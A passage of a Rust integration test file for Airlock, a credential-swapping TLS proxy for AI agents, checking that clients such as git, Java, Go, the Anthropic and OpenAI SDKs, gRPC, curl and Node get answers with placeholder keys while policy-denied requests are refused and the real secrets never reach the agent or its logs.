//! TLS interception, policies and credentials, end to end: real agents
//! (Node, curl, Python requests) under `airlock run`, a real HTTPS upstream
//! with its own CA on loopback, names resolved by Airlock's resolver.

mod harness;

use std::io::Write as _;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use harness::{
    Daemon, DaemonOptions, describe,
    grpc::{Call, GrpcUpstream},
    stdout,
    upstream::{OAUTH_CLIENT_ID, OAUTH_CLIENT_SECRET, Seen, TlsUpstream},
};

const PY: &str = "/usr/bin/python3";
const SECRET: &str = "s3cr3t-Value-0123456789abcdef";
const PLACEHOLDER: &str = "airlock-ph-api-token";

struct Setup {
    d: Daemon,
    up: TlsUpstream,
}

fn setup(extra_rules: &str) -> Setup {
    let dir = tempfile::tempdir().expect("upstream dir");
    let up = TlsUpstream::start(
        dir.path(),
        &[
            "api.example.test",
            "other.example.test",
            "aws.example.test",
            "auth.example.test",
            "svc.example.test",
            "pinned.example.test",
            "git.example.test",
            harness::upstream::GO_AWAY_HOST,
        ],
    );
    let p = up.port;
    let extra_rules = extra_rules.replace("{port}", &p.to_string());
    let ca = dir.keep().join("upstream-ca.pem");
    let policy = format!(
        r#"agent: web-bot
env:
  API_TOKEN: "{{{{ placeholder: api-token }}}}"
rules:
  - host: api.example.test:{p}
    methods: [GET, POST, HEAD]
    paths: ["/hello", "/log", "/echo", "/echo-coded", "/sse", "/ws", "/big", "/bighead", "/reason", "/upload", "/early", "/early-slow", "/tail"]
    credentials:
      - secret: api-token
  - host: other.example.test:{p}
    methods: [GET]
{extra_rules}deny:
  - host: api.example.test:{p}
    paths: ["/admin/**"]
"#
    );
    let d = Daemon::start(DaemonOptions {
        policies: vec![("web-bot.yaml".into(), policy)],
        extra_config: format!(
            "resolve:\n  api.example.test: 127.0.0.1\n  other.example.test: 127.0.0.1\n  aws.example.test: 127.0.0.1\n  auth.example.test: 127.0.0.1\n  svc.example.test: 127.0.0.1\n  pinned.example.test: 127.0.0.1\n  git.example.test: 127.0.0.1\n  goaway.example.test: 127.0.0.1\nupstream_ca: [{}]\napproval_timeout_secs: 3\n",
            ca.display()
        ),
    });
    d.secret_set("api-token", SECRET);
    Setup { d, up }
}

fn assert_no_secret(what: &str, text: &str) {
    assert!(
        !text.contains(SECRET),
        "{what} contains the real secret:\n{}",
        redacted(text)
    );
}

/// The shortest piece of the secret that counts as giving it away.
const SECRET_PIECE_MIN: usize = 8;

/// Fails when `text` holds any piece of the secret at least
/// `SECRET_PIECE_MIN` bytes long: a secret read back in parts is read.
fn assert_no_piece_of_secret(what: &str, text: &str) {
    let leaked = (0..=SECRET.len() - SECRET_PIECE_MIN)
        .any(|at| text.contains(&SECRET[at..at + SECRET_PIECE_MIN]));
    assert!(
        !leaked,
        "{what} contains a piece of the real secret:\n{}",
        redacted(text)
    );
}

/// `text` with every piece of the secret at least `SECRET_PIECE_MIN` bytes
/// long blotted out, so that a failing test does not print it.
fn redacted(text: &str) -> String {
    let mut text = text.to_owned();
    for len in (SECRET_PIECE_MIN..=SECRET.len()).rev() {
        for at in 0..=SECRET.len() - len {
            text = text.replace(&SECRET[at..at + len], "<secret>");
        }
    }
    text
}

/// `git` as the test (root) runs it, outside any agent.
fn git(args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", "/nonexistent")
        .output()
        .expect("git");
    assert!(out.status.success(), "git {args:?}: {}", describe(&out));
    stdout(&out)
}

/// A coding agent's daily work: `git clone` over HTTPS with a token in the
/// URL, as GitHub takes one. The agent's URL holds only the placeholder;
/// git sends it inside a Basic value, where Airlock swaps in the token. A
/// policy that lets the agent fetch any repository but push only to its
/// own stops a push elsewhere at its POST, before the upstream sees it.
#[test]
fn git_clones_with_a_token_it_never_holds_and_pushes_only_where_its_policy_says() {
    let repos = tempfile::tempdir().expect("repos");
    let bare = repos.path().join("repo.git");
    let bare = bare.to_str().expect("utf-8 path");
    let own = repos.path().join("scratch.git");
    let own = own.to_str().expect("utf-8 path");
    git(&["init", "-q", "--bare", "-b", "main", bare]);
    git(&["init", "-q", "--bare", "-b", "main", own]);
    let seed = tempfile::tempdir().expect("seed");
    let seed = seed.path().to_str().expect("utf-8 path");
    git(&["init", "-q", "-b", "main", seed]);
    let who = [
        "-c",
        "user.name=upstream",
        "-c",
        "user.email=up@example.test",
    ];
    git(&[
        &["-C", seed][..],
        &who,
        &[
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "first commit upstream",
        ],
    ]
    .concat());
    git(&["-C", seed, "push", "-q", bare, "main"]);

    let Setup { d, up } = setup(
        r#"  - host: git.example.test:{port}
    methods: [GET, POST]
    paths: ["/git/*.git/info/refs", "/git/*.git/git-upload-pack", "/git/scratch.git/git-receive-pack"]
    credentials:
      - secret: api-token
"#,
    );
    up.serve_git(repos.path(), SECRET);
    // The agent runs as nobody: a directory of its own to clone into.
    let work = tempfile::tempdir().expect("work");
    harness::set_mode(work.path(), 0o777);
    let agent = format!(
        r#"set -e
cd {work}
git clone -q "https://x-access-token:$API_TOKEN@git.example.test:{port}/git/repo.git" clone
git -C clone log --format=%s
git -C clone -c user.name=bot -c user.email=bot@example.test commit -q --allow-empty -m "pushed by the agent"
if git -C clone push -q origin main 2>push.err; then echo PUSHED; else echo PUSH REFUSED; cat push.err; fi
git -C clone push -q "https://x-access-token:$API_TOKEN@git.example.test:{port}/git/scratch.git" main
echo PUSHED TO SCRATCH
"#,
        work = work.path().display(),
        port = up.port
    );
    let out = d.run_agent("web-bot", &["sh", "-c", &agent]);
    let text = describe(&out);
    assert_no_secret("the agent's output", &text);
    assert!(out.status.success(), "{}", redacted(&text));
    let said = stdout(&out);
    assert!(
        said.starts_with("first commit upstream\n"),
        "{}",
        redacted(&text)
    );
    assert!(said.contains("PUSH REFUSED"), "{}", redacted(&text));
    assert!(
        said.contains("403"),
        "git names the refusal: {}",
        redacted(&text)
    );
    assert!(said.ends_with("PUSHED TO SCRATCH\n"), "{}", redacted(&text));

    // The upstream got the token, inside the Basic value git made of the
    // placeholder; the agent's copy of the URL still holds the placeholder.
    let basic = format!(
        "Basic {}",
        base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            format!("{}:{SECRET}", harness::git_http::GIT_USER)
        )
    );
    let seen = up.seen();
    let fetched = seen
        .iter()
        .filter(|r| r.path == "/git/repo.git/git-upload-pack")
        .collect::<Vec<_>>();
    assert!(!fetched.is_empty(), "no fetch reached the upstream");
    assert!(
        fetched
            .iter()
            .all(|r| r.header("authorization") == Some(basic.as_str())),
        "a fetch reached the upstream without the token"
    );
    let config = std::fs::read_to_string(work.path().join("clone/.git/config")).expect("config");
    assert_no_secret("the clone's .git/config", &config);
    assert!(config.contains("x-access-token:airlock-ph-"), "{config}");

    // The refused push never reached the upstream, and the branch is as it
    // was; the allowed one landed, with the token.
    assert!(
        !seen
            .iter()
            .any(|r| r.path == "/git/repo.git/git-receive-pack"),
        "the refused push reached the upstream"
    );
    assert_eq!(
        git(&["--git-dir", bare, "log", "--format=%s", "main"]),
        "first commit upstream\n"
    );
    assert_eq!(
        git(&["--git-dir", own, "log", "--format=%s", "main"]),
        "pushed by the agent\nfirst commit upstream\n"
    );
    assert!(
        seen.iter()
            .filter(|r| r.path == "/git/scratch.git/git-receive-pack")
            .all(|r| r.header("authorization") == Some(basic.as_str())),
        "a push reached the upstream without the token"
    );
    let rec = d.wait_audit("for the refused push", |r| {
        r["path"] == "/git/repo.git/git-receive-pack"
    });
    assert_eq!(rec["action"], "deny", "{rec}");
    assert_eq!(rec["status"], 403, "{rec}");
}

/// Runs `client URL` as nobody, with `env` in the environment `airlock
/// run` starts with: a client that fetches /echo with `Bearer $API_TOKEN`.
/// Its output must begin with `status_line` and hold no secret; the
/// upstream must have got the real one. The request it got is returned.
fn echo_with_token(
    d: &Daemon,
    up: &TlsUpstream,
    env: &[(&str, &str)],
    client: &[&str],
    status_line: &str,
) -> Seen {
    let url = format!("https://api.example.test:{}/echo", up.port);
    let cmd: Vec<&str> = client.iter().copied().chain([url.as_str()]).collect();
    let out = d.run_agent_with("web-bot", &["--user", "nobody"], env, &cmd);
    let text = describe(&out);
    assert_no_secret("the agent's output", &text);
    assert!(out.status.success(), "{}", redacted(&text));
    assert!(stdout(&out).starts_with(status_line), "{}", redacted(&text));
    let echo = up
        .seen()
        .into_iter()
        .rfind(|r| r.path == "/echo")
        .expect("the request reached the upstream");
    assert_eq!(
        echo.header("authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    echo
}

/// The JVM reads none of the CA files other runtimes do. `airlock run`
/// names a trust store (JKS) of the system roots and Airlock's CA in
/// `JAVA_TOOL_OPTIONS`, after any options the caller had there, and Java's
/// own HTTP client gets its answer over HTTP/2, with the token swapped in
/// on the way.
#[test]
fn java_trusts_airlock_through_the_trust_store_run_names() {
    let Setup { d, up } = setup("");
    let src = tempfile::tempdir().expect("source dir");
    harness::set_mode(src.path(), 0o755);
    let fetch = src.path().join("Fetch.java");
    std::fs::write(
        &fetch,
        r#"import java.net.URI;
import java.net.http.*;
public class Fetch {
    public static void main(String[] args) throws Exception {
        var request = HttpRequest.newBuilder(URI.create(args[0]))
            .header("Authorization", "Bearer " + System.getenv("API_TOKEN"))
            .build();
        var response = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
        System.out.println(System.getProperty("caller.option") + " " + response.statusCode() + " " + response.version());
        System.out.println(response.body());
    }
}
"#,
    )
    .expect("Fetch.java");
    harness::set_mode(&fetch, 0o644);
    let echo = echo_with_token(
        &d,
        &up,
        &[("JAVA_TOOL_OPTIONS", "-Dcaller.option=kept")],
        &["java", fetch.to_str().expect("utf-8 path")],
        "kept 200 HTTP_2\n",
    );
    assert_eq!(echo.version, "HTTP/2.0");

    // The store holds every root the PEM bundle does, as Java's own tool
    // reads it.
    let ca_dir = d.dir.path().join("state/ca");
    let listed = Command::new("keytool")
        .args(["-list", "-storepass", "changeit", "-keystore"])
        .arg(ca_dir.join("bundle.jks"))
        .output()
        .expect("keytool");
    assert!(listed.status.success(), "{}", describe(&listed));
    let pem = std::fs::read_to_string(ca_dir.join("bundle.pem")).expect("bundle.pem");
    assert_eq!(
        stdout(&listed).matches("trustedCertEntry").count(),
        pem.matches("-----BEGIN CERTIFICATE-----").count(),
        "{}",
        stdout(&listed)
    );
}

/// The case `HTTP_PROXY` cannot cover: a Go client with a transport of
/// its own, which never asks for a proxy (and a proxy variable set for
/// it, which it ignores). Its connect is captured all the same, and it
/// gets its answer over HTTP/2, with the token swapped in, trusting
/// Airlock's CA through `SSL_CERT_FILE` as Go's crypto/x509 reads it.
#[test]
fn a_go_client_with_a_transport_of_its_own_is_captured_all_the_same() {
    let Setup { d, up } = setup("");
    let src = tempfile::tempdir().expect("source dir");
    harness::set_mode(src.path(), 0o755);
    let main_go = src.path().join("fetch.go");
    std::fs::write(
        &main_go,
        r#"package main

import (
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"os"
)

func main() {
	transport := &http.Transport{
		Proxy:             nil, // never a proxy, whatever the environment says
		TLSClientConfig:   &tls.Config{},
		ForceAttemptHTTP2: true,
	}
	request, err := http.NewRequest("GET", os.Args[1], nil)
	if err != nil {
		panic(err)
	}
	request.Header.Set("Authorization", "Bearer "+os.Getenv("API_TOKEN"))
	response, err := (&http.Client{Transport: transport}).Do(request)
	if err != nil {
		fmt.Println("error:", err)
		os.Exit(1)
	}
	body, _ := io.ReadAll(response.Body)
	fmt.Println(response.StatusCode, response.Proto)
	fmt.Println(string(body))
}
"#,
    )
    .expect("fetch.go");
    let fetch = src.path().join("fetch");
    let built = Command::new("go")
        .arg("build")
        .arg("-o")
        .arg(&fetch)
        .arg(&main_go)
        .env("GO111MODULE", "off")
        .env("CGO_ENABLED", "0")
        .output()
        .expect("go build (apt-get install golang-go)");
    assert!(built.status.success(), "{}", describe(&built));
    harness::set_mode(&fetch, 0o755);

    echo_with_token(
        &d,
        &up,
        &[
            ("HTTPS_PROXY", "http://127.0.0.1:9"),
            ("GODEBUG", "netdns=go"),
        ],
        &[fetch.to_str().expect("utf-8 path")],
        "200 HTTP/2.0\n",
    );
    // Captured by the kernel, not sent to a proxy: the record has the
    // user and process that connected, as the connect hook saw them.
    let nobody = Command::new("id")
        .args(["-u", "nobody"])
        .output()
        .expect("id");
    let rec = d.wait_audit("for the Go client's request", |r| {
        r["path"] == "/echo" && r["agent"] == "web-bot"
    });
    assert_eq!(rec["action"], "allow", "{rec}");
    assert_eq!(rec["uid"].to_string(), stdout(&nobody).trim(), "{rec}");
    assert!(rec["pid"].as_u64().is_some_and(|pid| pid > 1), "{rec}");
}

/// What most agents are built on: the Anthropic and OpenAI SDKs for
/// Python, each reading its key (a placeholder) and its base URL from the
/// environment the policy gives, each asked for an answer whole and then
/// as a stream. OpenAI's key travels as a Bearer token;
/// Anthropic's in `x-api-key` from older SDKs and as a Bearer token from
/// newer ones, so it is kept as a `header` secret bound to no one header,
/// as policies/llm-client.yaml says. Each is swapped only toward its own
/// API.
#[test]
fn the_anthropic_and_openai_sdks_get_answers_with_keys_they_never_hold() {
    const ANTHROPIC_KEY: &str = "test-anthropic-key-0123456789abcdef";
    const OPENAI_KEY: &str = "test-openai-key-0123456789abcdefgh";
    let sdks = harness::python_sdks();
    let dir = tempfile::tempdir().expect("upstream dir");
    let up = TlsUpstream::start(dir.path(), &["api.anthropic.test", "api.openai.test"]);
    let p = up.port;
    let policy = format!(
        r#"agent: llm-bot
env:
  ANTHROPIC_API_KEY: "{{{{ placeholder: anthropic }}}}"
  ANTHROPIC_BASE_URL: "https://api.anthropic.test:{p}"
  OPENAI_API_KEY: "{{{{ placeholder: openai }}}}"
  OPENAI_BASE_URL: "https://api.openai.test:{p}/v1"
  PYTHONPATH: "{sdks}"
rules:
  - host: api.anthropic.test:{p}
    methods: [POST]
    paths: ["/v1/messages"]
    credentials:
      - secret: anthropic
  - host: api.openai.test:{p}
    methods: [POST]
    paths: ["/v1/chat/completions"]
    credentials:
      - secret: openai
"#
    );
    let d = Daemon::start(DaemonOptions {
        policies: vec![("llm-bot.yaml".into(), policy)],
        extra_config: format!(
            "resolve:\n  api.anthropic.test: 127.0.0.1\n  api.openai.test: 127.0.0.1\nupstream_ca: [{}]\n",
            dir.path().join("upstream-ca.pem").display()
        ),
    });
    // `set` notes that such a secret is swapped in any request header.
    d.secret_with_value_noted(&["set", "anthropic", "--kind", "header"], ANTHROPIC_KEY);
    d.secret_with_value(&["set", "openai", "--kind", "bearer"], OPENAI_KEY);
    let agent = r#"
import time
import anthropic, openai
m = anthropic.Anthropic().messages.create(
    model="claude-test", max_tokens=16, messages=[{"role": "user", "content": "hi"}])
print("anthropic:", m.content[0].text)
c = openai.OpenAI().chat.completions.create(
    model="gpt-test", messages=[{"role": "user", "content": "hi"}])
print("openai:", c.choices[0].message.content)

# Streamed, as agents mostly call them: each piece of text as it comes,
# and whether the first came well before the last (the upstream sends
# them a second apart).
def spread(pieces):
    return "".join(t for _, t in pieces) + " " + str(pieces[-1][0] - pieces[0][0] >= 0.8)
with anthropic.Anthropic().messages.stream(
        model="claude-test", max_tokens=16, messages=[{"role": "user", "content": "hi"}]) as s:
    pieces = [(time.monotonic(), t) for t in s.text_stream]
print("anthropic streamed:", spread(pieces))
pieces = [
    (time.monotonic(), chunk.choices[0].delta.content)
    for chunk in openai.OpenAI().chat.completions.create(
        model="gpt-test", messages=[{"role": "user", "content": "hi"}], stream=True)
    if chunk.choices and chunk.choices[0].delta.content
]
print("openai streamed:", spread(pieces))
"#;
    let out = d.run_agent("llm-bot", &[PY, "-c", agent]);
    let text = describe(&out);
    for key in [ANTHROPIC_KEY, OPENAI_KEY] {
        assert!(!text.contains(key), "the agent saw a key");
    }
    assert!(out.status.success(), "{text}");
    assert_eq!(
        stdout(&out),
        "anthropic: hello from the test upstream\nopenai: hello from the test upstream\n\
         anthropic streamed: hello from the test upstream True\n\
         openai streamed: hello from the test upstream True\n"
    );
    let seen = up.seen();
    // Each API was called twice (whole, then streamed), each time with its
    // own key and only that.
    let calls = |path: &str| {
        let calls: Vec<Seen> = seen.iter().filter(|r| r.path == path).cloned().collect();
        assert_eq!(calls.len(), 2, "requests for {path}");
        calls
    };
    let bearer = |key: &str| format!("Bearer {key}");
    for messages in calls("/v1/messages") {
        let anthropic_got = [
            messages.header("x-api-key").map(str::to_owned),
            messages.header("authorization").map(str::to_owned),
        ];
        assert!(
            anthropic_got == [Some(ANTHROPIC_KEY.to_owned()), None]
                || anthropic_got == [None, Some(bearer(ANTHROPIC_KEY))],
            "the Anthropic API got neither x-api-key nor a Bearer token with its key"
        );
    }
    for completions in calls("/v1/chat/completions") {
        assert_eq!(
            completions.header("authorization"),
            Some(bearer(OPENAI_KEY).as_str())
        );
        assert_eq!(completions.header("x-api-key"), None);
    }
}

/// A gRPC agent: calls of each kind to [`GrpcUpstream`]'s service at
/// `$GRPC_TARGET`, over TLS when `$GRPC_TLS` is set, each with
/// `authorization: Bearer $API_TOKEN`, and one to a method its policy
/// does not allow; it prints what each call got ([`GRPC_ANSWERS`]).
const GRPC_AGENT: &str = r#"
import os, queue, grpc
target = os.environ["GRPC_TARGET"]
if os.environ.get("GRPC_TLS"):
    channel = grpc.secure_channel(target, grpc.ssl_channel_credentials())
else:
    channel = grpc.insecure_channel(target)
key = [("authorization", "Bearer " + os.environ["API_TOKEN"])]
def call(method, streamed=False, metadata=key):
    kind = channel.unary_stream if streamed else channel.unary_unary
    try:
        answer = kind(method)(b"hi", metadata=metadata, timeout=20)
        return [m.decode() for m in answer] if streamed else answer.decode()
    except grpc.RpcError as e:
        return e.code().name + " " + (e.details() or "")
print(call("/airlock.test.Echo/Say"))
print(call("/airlock.test.Echo/Fail"))
print(call("/airlock.test.Echo/Count", streamed=True))
print(call("/airlock.test.Admin/Drop", metadata=()).split()[0])

# Each message goes only once the answer to the one before has come back:
# a proxy that held the request stream until its end would stall it.
replies = queue.Queue()
def chat():
    for word in ["one", "two", "three"]:
        yield word.encode()
        replies.get(timeout=10)
answers = []
for answer in channel.stream_stream("/airlock.test.Echo/Chat")(chat(), metadata=key, timeout=20):
    answers.append(answer.decode())
    replies.put(answer)
print(answers)
"#;

/// What [`GRPC_AGENT`] prints when every call got its answer: the status
/// a call ended with (in trailers), and PERMISSION_DENIED (Airlock's 403)
/// for the method the policy does not allow.
const GRPC_ANSWERS: &str = "echo: hi\nFAILED_PRECONDITION the test server says no\n['0', '1', '2']\n\
                            PERMISSION_DENIED\n['echo: one', 'echo: two', 'echo: three']\n";

/// gRPC rides on HTTP/2 trailers: the status of every call comes in them,
/// and servers on gRPC's C core refuse a call without `te: trailers`, the
/// protocol's test for a proxy that would drop them. A bidirectional
/// stream needs both directions to flow at once. The client trusts
/// Airlock's CA through the variable gRPC reads, with the default
/// credentials agents use.
#[test]
fn a_grpc_client_gets_answers_statuses_and_streams_both_ways_with_a_key_it_never_holds() {
    const KEY: &str = "test-grpc-key-0123456789abcdefgh";
    let sdks = harness::python_sdks();
    let dir = tempfile::tempdir().expect("upstream dir");
    let up = GrpcUpstream::start(dir.path(), sdks, Some("grpc.test"));
    let p = up.port;
    let policy = format!(
        r#"agent: grpc-bot
env:
  API_TOKEN: "{{{{ placeholder: grpc-token }}}}"
  GRPC_TARGET: "grpc.test:{p}"
  GRPC_TLS: "1"
  PYTHONPATH: "{sdks}"
rules:
  - host: grpc.test:{p}
    methods: [POST]
    paths: ["/airlock.test.Echo/*"]
    credentials:
      - secret: grpc-token
"#
    );
    let d = Daemon::start(DaemonOptions {
        policies: vec![("grpc-bot.yaml".into(), policy)],
        extra_config: format!(
            "resolve:\n  grpc.test: 127.0.0.1\nupstream_ca: [{}]\n",
            up.ca_pem.as_ref().expect("the test CA").display()
        ),
    });
    d.secret_with_value(&["set", "grpc-token", "--kind", "bearer"], KEY);
    let out = d.run_agent_dns("grpc-bot", &[PY, "-c", GRPC_AGENT]);
    let text = describe(&out);
    assert!(!text.contains(KEY), "the agent saw the key");
    assert!(out.status.success(), "{text}");
    assert_eq!(stdout(&out), GRPC_ANSWERS, "{text}");
    // A server that answers with the key it was sent. The answer is a
    // length-prefixed message, and the placeholder is shorter than the
    // key: scrubbed as a plain byte stream, its length would be wrong.
    let whoami = r#"
import os, grpc
channel = grpc.secure_channel(os.environ["GRPC_TARGET"], grpc.ssl_channel_credentials())
sent = "Bearer " + os.environ["API_TOKEN"]
try:
    answer = channel.unary_unary("/airlock.test.Echo/Whoami")(b"", metadata=[("authorization", sent)], timeout=20)
    print("the placeholder" if answer == sent.encode() else answer)
except grpc.RpcError as e:
    print(e.code().name, e.details())
"#;
    let out = d.run_agent_dns("grpc-bot", &[PY, "-c", whoami]);
    let text = describe(&out);
    assert!(!text.contains(KEY), "the agent saw the key");
    assert_eq!(stdout(&out), "the placeholder\n", "{text}");
    // Each call the policy allows reached the server with the key; the
    // one it does not allow never left the host.
    let bearer = format!("Bearer {KEY}");
    let calls = up.calls();
    assert_eq!(
        calls,
        ["Say", "Fail", "Count", "Chat", "Whoami"].map(|method| Call {
            method: method.into(),
            authorization: bearer.clone(),
        })
    );
}

/// gRPC in plain text, as services on internal networks often speak it:
/// HTTP/2 from the first byte (prior knowledge), with no TLS to offer it
/// by. The upstream leg must start it the same way.
#[test]
fn a_grpc_client_without_tls_gets_answers_statuses_and_streams() {
    let sdks = harness::python_sdks();
    let dir = tempfile::tempdir().expect("upstream dir");
    let up = GrpcUpstream::start(dir.path(), sdks, None);
    let p = up.port;
    let policy = format!(
        r#"agent: grpc-plain
env:
  API_TOKEN: "not-a-secret"
  GRPC_TARGET: "grpc.test:{p}"
  PYTHONPATH: "{sdks}"
rules:
  - host: grpc.test:{p}
    methods: [POST]
    paths: ["/airlock.test.Echo/*"]
"#
    );
    let d = Daemon::start(DaemonOptions {
        policies: vec![("grpc-plain.yaml".into(), policy)],
        extra_config: "resolve:\n  grpc.test: 127.0.0.1\n".into(),
    });
    let out = d.run_agent_dns("grpc-plain", &[PY, "-c", GRPC_AGENT]);
    let text = describe(&out);
    assert!(out.status.success(), "{text}");
    assert_eq!(stdout(&out), GRPC_ANSWERS, "{text}");
    let methods: Vec<String> = up.calls().into_iter().map(|c| c.method).collect();
    assert_eq!(methods, ["Say", "Fail", "Count", "Chat"]);
}

#[test]
fn clients_get_answers_and_only_the_upstream_sees_the_secret() {
    let Setup { d, up } = setup("");
    let url = format!("https://api.example.test:{}/echo", up.port);
    let auth = "Authorization: Bearer $API_TOKEN";
    let curl_h1 = format!("curl -sS --fail-with-body --http1.1 -H \"{auth}\" {url}");
    let curl_h2 = format!("curl -sS --fail-with-body --http2 -H \"{auth}\" {url}");
    let node_fetch = format!(
        "fetch('{url}', {{headers: {{authorization: 'Bearer ' + process.env.API_TOKEN}}}}).then(r => r.text()).then(t => console.log(t), e => {{ console.log('error', e.cause || e); process.exit(1) }})"
    );
    let node_https = format!(
        "require('https').get('{url}', {{headers: {{authorization: 'Bearer ' + process.env.API_TOKEN}}}}, r => {{ let b = ''; r.on('data', c => b += c); r.on('end', () => console.log(r.statusCode, b)) }}).on('error', e => {{ console.log('error', e); process.exit(1) }})"
    );
    // An HTTP/2 client that names the host in a Host header rather than
    // :authority (Node does so when given one), which an HTTP/2 upstream
    // must not receive as Host.
    let node_http2 = format!(
        "const c = require('http2').connect('https://api.example.test:{port}'); c.on('error', e => {{ console.log('error', e); process.exit(1) }}); const r = c.request({{':path': '/echo', host: 'api.example.test:{port}', authorization: 'Bearer ' + process.env.API_TOKEN}}); let s = 0, b = ''; r.on('response', h => s = h[':status']); r.on('data', d => b += d); r.on('end', () => {{ console.log(s, b); c.close(); if (s !== 200) process.exit(1) }})",
        port = up.port
    );
    let python = format!(
        "import os, requests\nr = requests.get('{url}', headers={{'Authorization': 'Bearer ' + os.environ['API_TOKEN']}}, timeout=10)\nprint(r.status_code, r.text)\n"
    );
    // With the HTTP version the upstream must see: the agent's own (the
    // upstream offers both).
    let runs: Vec<(&str, Vec<String>, &str)> = vec![
        (
            "curl http/1.1",
            vec!["sh".into(), "-c".into(), curl_h1],
            "HTTP/1.1",
        ),
        (
            "curl --http2",
            vec!["sh".into(), "-c".into(), curl_h2],
            "HTTP/2.0",
        ),
        (
            "node fetch",
            vec!["node".into(), "-e".into(), node_fetch],
            "HTTP/1.1",
        ),
        (
            "node https",
            vec!["node".into(), "-e".into(), node_https],
            "HTTP/1.1",
        ),
        (
            "node http2",
            vec!["node".into(), "-e".into(), node_http2],
            "HTTP/2.0",
        ),
        (
            "python requests",
            vec![PY.into(), "-c".into(), python],
            "HTTP/1.1",
        ),
    ];
    for (name, cmd, version) in &runs {
        let before = up.seen().len();
        let args: Vec<&str> = cmd.iter().map(String::as_str).collect();
        let out = d.run_agent_dns("web-bot", &args);
        let text = stdout(&out);
        assert!(out.status.success(), "{name}: {}", describe(&out));
        assert!(
            text.contains("\"path\":\"/echo\""),
            "{name} got no echo: {}",
            describe(&out)
        );
        // The echo reflected the Authorization header; the agent sees the
        // placeholder in its place.
        assert!(text.contains(PLACEHOLDER), "{name}: {}", describe(&out));
        assert_no_secret(name, &text);
        assert_no_secret(name, &String::from_utf8_lossy(&out.stderr));
        let seen = up.seen();
        assert_eq!(seen.len(), before + 1, "{name}: upstream request count");
        let last = seen.last().expect("seen");
        assert_eq!(
            last.header("authorization"),
            Some(format!("Bearer {SECRET}").as_str()),
            "{name}: the upstream did not receive the real secret\n{}",
            d.log_text()
        );
        assert_eq!(last.version, *version, "{name}: HTTP version upstream");
    }
    // HTTP/2 toward the agent where it asked for it.
    let rec = d.wait_audit("for an https request", |r| {
        r["proto"] == "https" && r["credentials"][0] == "api-token"
    });
    assert_eq!(rec["agent"], "web-bot");
    assert_eq!(rec["action"], "allow");
    assert_eq!(rec["status"], 200);
    assert_no_secret(
        "audit log",
        &std::fs::read_to_string(&d.audit).unwrap_or_default(),
    );
    assert_no_secret("daemon log", &d.log_text());

    // The agent's own environment holds only the placeholder.
    let out = d.run_agent("web-bot", &["env"]);
    let env = stdout(&out);
    assert!(
        env.contains(&format!("API_TOKEN={PLACEHOLDER}")),
        "{}",
        describe(&out)
    );
    assert_no_secret("the agent's environment", &env);
    assert!(env.contains("NODE_EXTRA_CA_CERTS="), "{env}");
    assert!(env.contains("SSL_CERT_FILE="), "{env}");
}

/// A large upload streams through whole over HTTP/1.1 and HTTP/2, from a
/// client that waits for `100 Continue` before it sends the body (curl
/// does past 1 MiB) and from one that does not (Python requests).
#[test]
fn large_uploads_reach_the_upstream_whole() {
    use sha2::Digest as _;
    let Setup { d, up } = setup("");
    // Bytes that never repeat, so that a piece lost, doubled or moved
    // changes the digest.
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let body: Vec<u8> = (0..3 * 1024 * 1024)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    let file = d.dir.path().join("upload.bin");
    std::fs::write(&file, &body).expect("write the upload");
    harness::set_mode(&file, 0o644);
    let expected = format!("{} {:x}\n", body.len(), sha2::Sha256::digest(&body));
    let url = format!("https://api.example.test:{}/upload", up.port);
    let f = file.display();
    let curl = |version: &str| {
        format!(
            "curl -sS -v --fail-with-body {version} -H \"Authorization: Bearer $API_TOKEN\" --data-binary @{f} {url}"
        )
    };
    let requests = format!(
        "import os, requests; print(requests.post('{url}', data=open('{f}', 'rb'), headers={{'authorization': 'Bearer ' + os.environ['API_TOKEN']}}).text, end='')"
    );
    for (client, cmd) in [
        ("curl --http1.1", curl("--http1.1")),
        ("curl --http2", curl("--http2")),
        ("python requests", format!("{PY} -c \"{requests}\"")),
    ] {
        let out = d.run_agent_dns("web-bot", &["sh", "-c", &cmd]);
        let text = describe(&out);
        assert!(out.status.success(), "{client}: {text}");
        assert_eq!(stdout(&out), expected, "{client}");
        if client == "curl --http1.1" {
            assert!(
                text.contains("Expect: 100-continue") && text.contains("HTTP/1.1 100 Continue"),
                "curl neither asked for nor got 100 Continue: {text}"
            );
        }
    }
    let uploads = up.seen().iter().filter(|r| r.path == "/upload").count();
    assert_eq!(uploads, 3);
}

/// A client still sending when its answer comes must get to read it:
/// Python's http.client reads nothing before its body is sent, and curl
/// 7.88 over HTTP/2 takes a stream reset after the answer as a failure.
#[test]
fn an_upload_answered_before_it_is_all_sent_gets_its_answer() {
    let Setup { d, up } = setup("");
    let file = d.dir.path().join("upload.bin");
    std::fs::write(&file, vec![b'x'; 3 * 1024 * 1024]).expect("write the upload");
    harness::set_mode(&file, 0o644);
    let f = file.display();
    let refused = format!("https://api.example.test:{}/admin/upload", up.port);
    let curl = |args: &str, url: &str| {
        format!("curl -sS {args} -w ' %{{http_code}}' --data-binary @{f} {url}")
    };
    let requests = format!(
        "import requests; r = requests.post('{refused}', data=open('{f}', 'rb')); print(r.json()['reason'], r.status_code, end='')"
    );
    let node = format!(
        "fetch('{refused}', {{method: 'POST', body: require('fs').readFileSync('{f}')}}).then(async r => console.log((await r.json()).reason, r.status))"
    );
    for (client, cmd) in [
        ("curl --http2", curl("--http2", &refused)),
        ("curl --http1.1", curl("--http1.1 -H 'Expect:'", &refused)),
        (
            "curl --http1.1, waiting for 100 Continue",
            curl("--http1.1 -H 'Expect: 100-continue'", &refused),
        ),
        ("python requests", format!("{PY} -c \"{requests}\"")),
        ("node fetch", format!("node -e \"{node}\"")),
    ] {
        let out = d.run_agent_dns("web-bot", &["sh", "-c", &cmd]);
        let text = describe(&out);
        assert!(out.status.success(), "refused, {client}: {text}");
        let said = stdout(&out);
        let said = said.trim_end();
        assert!(
            said.contains("deny_rule") && said.ends_with(" 403"),
            "refused, {client}: {text}"
        );
    }
    // Over HTTP/2, the refusal came once curl had sent all it declared.
